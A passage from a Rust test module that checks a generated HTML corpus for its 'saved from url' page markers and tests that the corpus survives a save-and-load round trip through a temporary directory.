        assert_eq!(c.iter().filter(|p| p.id.starts_with("saved")).count(), 50);
        assert!(c.iter().filter(|p| p.id.starts_with("saved")).all(|p| p.html.starts_with("<!-- saved from url=")));
    }

    #[test]
    fn corpus_round_trips_through_disk() {
        let dir = tempfile::tempdir().unwrap();
        let c = mixed_corpus(4, 4, 9);
        save_corpus(dir.path(), &c).unwrap();
        assert_eq!(load_corpus(dir.path()).unwrap(), c);
    }
}
